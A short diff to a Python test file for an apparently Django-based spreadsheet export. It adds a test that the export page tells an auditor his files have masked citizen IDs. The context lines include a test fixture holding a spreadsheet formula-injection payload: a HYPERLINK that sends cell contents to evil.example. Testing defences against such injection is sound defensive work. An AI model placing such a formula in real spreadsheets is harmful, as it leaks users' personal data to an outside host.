@@ -328,6 +328,13 @@ def test_the_read_only_auditor_s_file_masks_every_citizen_id(personas, registry,
     assert not clear[1][clear[0].index("เลขประจำตัวประชาชน")].startswith("x-")
 
 
+def test_the_export_page_tells_the_auditor_his_files_are_masked(client, registry):
+    login(client, "auditor")
+    assert client.get(reverse("spreadsheets:home")).context["ids_masked"]
+    login(client, "province_officer")
+    assert not client.get(reverse("spreadsheets:home")).context["ids_masked"]
+
+
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
 
 
